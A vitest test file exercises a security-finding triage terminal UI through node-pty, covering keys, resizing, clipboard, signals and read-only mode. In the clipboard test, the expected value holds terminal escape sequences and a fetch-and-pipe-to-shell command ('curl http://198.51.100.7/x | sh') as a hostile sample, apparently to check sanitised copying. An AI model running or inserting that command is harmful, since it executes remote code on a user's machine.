import path from "node:path";
import process from "node:process";
import { afterEach, describe, expect, it } from "vitest";
import { loadPty, TestTerminal, type TerminalOptions } from "./terminal.ts";

const pty = await loadPty();
const here = import.meta.dirname;
const ENTER = "\r";
const ESC = "\x1b";

describe.skipIf(pty === null)("the triage screen in a terminal (needs node-pty)", () => {
  const open: TestTerminal[] = [];

  function start(flags: readonly string[] = [], options: TerminalOptions = {}): TestTerminal {
    if (pty === null) throw new Error("node-pty is not installed");
    const args = ["--import", path.join(here, "tsx-hook.mjs"), path.join(here, "fake-app.ts"), ...flags];
    const terminal = new TestTerminal(pty, process.execPath, args, options);
    open.push(terminal);
    return terminal;
  }

  afterEach(() => {
    for (const terminal of open.splice(0)) if (!terminal.hasExited) terminal.kill("SIGKILL");
  });

  it("lives on the alternate screen and leaves the terminal as it found it", async () => {
    const terminal = start();
    await terminal.until("412 ━┓");
    expect(terminal.isAlternate).toBe(true);
    terminal.write("q");
    expect(await terminal.exited).toBe(0);
    expect(terminal.isAlternate).toBe(false);
    expect(terminal.text()).toContain("after:");
  });

  it("judges, takes back and says why by keys alone", async () => {
    const terminal = start();
    await terminal.until("0/412 judged");
    await terminal.press("t", "finding 1: true positive");
    await terminal.press("w", "why true positive");
    await terminal.press(`a shell came from it${ENTER}`, "reason: a shell came from it");
    await terminal.press("ovjjf", "3 findings: false positive");
    await terminal.press("z", "took back");
    await terminal.press("Q", "after:");
    expect(await terminal.exited).toBe(0);
    expect(terminal.text()).toContain(
      "verdict true_positive 1; verdict true_positive 1 a shell came from it; verdict false_positive 1,5",
    );
  });

  it("walks a guide: a pivot and back, a step done, a note, the next finding", async () => {
    const terminal = start();
    await terminal.until("0/412 judged");
    await terminal.press(ENTER, /Children of the process +3/);
    await terminal.press("j", /▸ +→ Children/);
    await terminal.press(ENTER, "[4 Events]");
    await terminal.until("process.parent.entity_id");
    await terminal.press(ESC, "[3 Finding]");
    await terminal.press(" ", "[✓] 1.");
    await terminal.press("n", "note on step 2:");
    await terminal.press(`nothing odd${ENTER}`, "✎ nothing odd");
    await terminal.press("]", "#2 risk 73");
    terminal.write("Q");
    expect(await terminal.exited).toBe(0);
    expect(terminal.text()).toContain("step 1/step/1 done; step 1/step/2 open");
  });

  it("follows resizes: panes beside each other, then above each other", async () => {
    const terminal = start([], { columns: 140, rows: 40 });
    await terminal.until(/┓┌─ Summary/);
    terminal.resize(80, 24);
    await terminal.until(() => terminal.lines().some((line) => line.startsWith("┌─ Summary")));
    expect(terminal.lines()).toHaveLength(24);
    await terminal.until(() => terminal.lines()[23]?.includes("? help") === true);
    terminal.resize(200, 50);
    await terminal.until(/┓┌─ Summary/);
    await terminal.until(() => terminal.lines()[49]?.includes("? help") === true);
  });

  it("puts the clean text on the clipboard, through tmux where that stands between", async () => {
    const terminal = start();
    await terminal.until("0/412 judged");
    await terminal.press("jjjy", "copied the value");
    await terminal.until(() => terminal.clipboard.length > 0);
    expect(terminal.clipboard).toEqual(["␛[2J␛]0;owned␇curl http://198.51.100.7/x | sh"]);
  });

  it("cancels the running query with Ctrl-C, and quits with two more", async () => {
    const terminal = start(["stuck"]);
    await terminal.until("0/412 judged");
    await terminal.press(`:query any where true${ENTER}`, "Ctrl-C cancels");
    await terminal.press("\x03", "cancelled");
    await terminal.press("\x03", "Ctrl-C again quits.");
    terminal.write("\x03");
    expect(await terminal.exited).toBe(0);
    expect(terminal.isAlternate).toBe(false);
  });

  it("gives the terminal back after a crash, and says what it was", async () => {
    const terminal = start(["crash"]);
    await terminal.until("0/412 judged");
    terminal.write("p");
    expect(await terminal.exited).toBe(1);
    expect(terminal.isAlternate).toBe(false);
    expect(terminal.text()).toContain("failed: Error: planted bug");
  });

  it.each(["SIGTERM", "SIGHUP"])("gives the terminal back on %s", async (signal) => {
    const terminal = start();
    await terminal.until("0/412 judged");
    terminal.kill(signal);
    await terminal.exited;
    await terminal.until(() => !terminal.isAlternate);
  });

  it("suspends with Ctrl-Z and comes back with fg", async () => {
    if (pty === null) return;
    const shell = new TestTerminal(pty, "bash", ["--norc", "--noprofile", "-i"], { env: { PS1: "prompt> " } });
    open.push(shell);
    await shell.until("prompt>");
    const command = [
      process.execPath,
      "--import",
      path.join(here, "tsx-hook.mjs"),
      path.join(here, "fake-app.ts"),
    ].join(" ");
    await shell.press(`${command}${ENTER}`, "0/412 judged");
    await shell.press("\x1a", "Stopped");
    expect(shell.isAlternate).toBe(false);
    await shell.press(`fg${ENTER}`, "0/412 judged");
    expect(shell.isAlternate).toBe(true);
    await shell.press("j", "2/412");
  });

  it("refuses to change a case that is open for reading only", async () => {
    const terminal = start(["readonly"]);
    await terminal.until("read only");
    await terminal.press("t", "This case is open for reading only.");
  });

  it("needs no colours", async () => {
    const terminal = start([], { env: { NO_COLOR: "1" } });
    await terminal.until("0/412 judged");
    const buffer = terminal.buffer.active;
    for (let y = 0; y < 40; y += 1) {
      const line = buffer.getLine(y);
      for (let x = 0; x < 120; x += 1) expect(line?.getCell(x)?.isFgDefault()).toBe(true);
    }
  });
});
